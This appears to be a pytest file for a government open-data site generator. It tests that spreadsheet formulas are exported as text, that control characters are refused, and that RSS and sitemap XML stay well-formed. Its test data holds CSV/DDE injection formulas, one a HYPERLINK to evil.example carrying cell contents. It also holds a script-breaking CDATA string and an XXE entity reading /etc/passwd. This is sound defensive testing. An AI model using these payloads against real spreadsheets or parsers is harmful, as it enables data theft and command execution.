"""Hostile text in fields and bodies: control characters refused where they are written, spreadsheet
formulas never run from the open data, feed.xml and sitemap.xml well-formed whatever the content says."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
import xml.dom.minidom

import pytest

from conftest import check, edit
from disclosure.exports import CATALOGUE_CSV, CATALOGUE_JSON, exports, spreadsheet_cell, xml_text
from disclosure.loader import load_project
from disclosure.release import Release

NEWS = "catalogue/docs/news.md"
AS_OF = dt.date(2021, 6, 30)

FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝HYPERLINK(\"https://evil.example\")",  # full-width, as a Chinese input method types it
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",  # small form
    "  =1+1",  # behind spaces
    "\u3000=1+1",  # behind an ideographic space
]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_text_field_is_exported_as_text(mini, formula):
    quoted = json.dumps(formula, ensure_ascii=False)
    edit(mini / NEWS, "title: 测试市司法局召开律师工作会议", f"title: {quoted}")
    edit(mini / NEWS, "summary: 部署年度律师工作。", f"summary: {quoted}")
    release = Release(load_project(mini)[0], AS_OF)
    files = exports(release)
    rows = csv_cells(files[CATALOGUE_CSV])
    row = next(r for r in rows if r[0] == "014500123/2021-00001")
    assert row[1] == row[2] == "'" + formula
    # Every other cell of the file starts harmlessly too.
    for cell in (c for r in rows for c in r):
        assert spreadsheet_cell(cell) == cell or cell.startswith("'"), cell
    # JSON is data, not a spreadsheet: the text as written.
    record = next(r for r in json.loads(files[CATALOGUE_JSON])["documents"] if r["id"] == "014500123/2021-00001")
    assert record["title"] == formula


@pytest.mark.parametrize("text", ["测试市司法局召开律师工作会议", "2021年工作要点", "https://example.gov.cn", "“=”号的用法", "", "A-1"])
def test_ordinary_text_is_exported_unchanged(text):
    assert spreadsheet_cell(text) == text


# (file, old, new, line, field): a control character as an editor pastes it or an attacker escapes it.
CONTROL = [
    (NEWS, "title: 测试市司法局召开律师工作会议", 'title: "测试市司法局\\x0c召开律师工作会议"', 3, "title"),
    (NEWS, "summary: 部署年度律师工作。", 'summary: "部署年度律师工作。\\0"', 4, "summary"),
    (NEWS, "summary: 部署年度律师工作。", 'summary: "部署\\u001b[31m年度律师工作"', 4, "summary"),
    (NEWS, "summary: 部署年度律师工作。", 'summary: "部署\\x85年度律师工作"', 4, "summary"),  # C1, NEL
    (NEWS, "summary: 部署年度律师工作。", 'summary: "部署\\uFFFE年度律师工作"', 4, "summary"),
    (NEWS, "  reviewer: 办公室保密审查员", '  reviewer: "办公室\\b保密审查员"', 12, "review.reviewer"),
    ("guides/lawyer.yml", "name: 律师执业许可", 'name: "律师执业许可\\x7f"', 2, "name"),
    ("guides/lawyer.yml", "  - step: 申请", '  - step: "申\\x01请"', None, "process[1].step"),
    ("catalogue/organization.yml", "name: 测试市司法局\n", 'name: "测试市司法局\\x1f"\n', 1, "name"),
    ("catalogue/negative-list.yml", "  - name: 内部事务信息", '  - name: "内部\\x02事务信息"', 2, "items[1].name"),
    ("catalogue/annual-reports/2020.yml", "problems: 政策解读形式较为单一。", 'problems: "政策解读\\x03形式较为单一。"', None, "problems"),
    ("interpretations/rules.md", "依据律师法制定。", "依据律师法\x0b制定。", 11, "body"),
    (NEWS, "\n---\n", "\n---\n正文第一行\n第二行有\x1a控制字符\n", 16, "body"),
]


@pytest.mark.parametrize("rel, old, new, line, field", CONTROL)
def test_a_control_character_is_refused_where_it_is_written(mini, capsys, rel, old, new, line, field):
    edit(mini / rel, old, new)
    code, diagnostics = check(mini, capsys=capsys)
    hits = [d for d in diagnostics if d["code"] == "D606" and d["file"] == rel and d["field"] == field]
    assert code == 1 and len(hits) == 1, diagnostics
    expected = line or next(n for n, text in enumerate((mini / rel).read_text(encoding="utf-8").splitlines(), 1) if new.strip().split(":")[0] in text)
    assert hits[0]["line"] == expected
    assert "U+" in hits[0]["message"] and hits[0]["hint"]


HOSTILE_TITLES = [
    "标题\x01\x02\x1b[0m",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp; &#0; &#x1; &lt; \"'",
    "\ufffe\uffff\u0085\u2028\u202e反转",
]


@pytest.mark.slow
def test_feed_and_sitemap_stay_well_formed_xml_whatever_the_titles_say(mini, tmp_path):
    for n, title in enumerate(HOSTILE_TITLES):
        text = (mini / NEWS).read_text(encoding="utf-8")
        text = text.replace('"014500123/2021-00001"', f'"014500123/2021-{n + 2:05d}"')
        text = text.replace("title: 测试市司法局召开律师工作会议", "title: " + json.dumps(title, ensure_ascii=True))
        text = text.replace("summary: 部署年度律师工作。", "summary: " + json.dumps(title[::-1], ensure_ascii=True))
        (mini / f"catalogue/docs/hostile-{n}.md").write_text(text, encoding="utf-8")
    edit(mini / "mkdocs.yml", "site_name: 测试站点", "site_name: 测试站点\nsite_url: https://sft.example.gov.cn/zwgk/")
    site = tmp_path / "site"
    # Not strict: the checker refuses these titles (D606), and the files must be well-formed even so.
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--site-dir", str(site)], cwd=mini, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "D606" in result.stderr
    feed = xml.dom.minidom.parseString((site / "feed.xml").read_bytes())  # expat: a real XML parser, strict about well-formedness
    titles = [e.firstChild.data if e.firstChild else "" for e in feed.getElementsByTagName("title")]
    assert any("]]><script>" in t for t in titles) and any("&e;" in t for t in titles)  # kept as text
    assert not any("\x01" in t or "\ufffe" in t for t in titles)
    sitemap = xml.dom.minidom.parseString((site / "sitemap.xml").read_bytes())
    assert len(sitemap.getElementsByTagName("loc")) > 5
    for path in (site / "feed.xml", site / "sitemap.xml"):
        assert b"<script" not in path.read_bytes()


def test_xml_text_keeps_every_character_xml_allows():
    allowed = "\t\n\r 文字\u2028\ud7ff\ue000\ufffd\U0001f600"
    assert xml_text(allowed) == allowed
    assert xml_text("a\x00b\x1fc\ufffed\uffff") == "abcd"
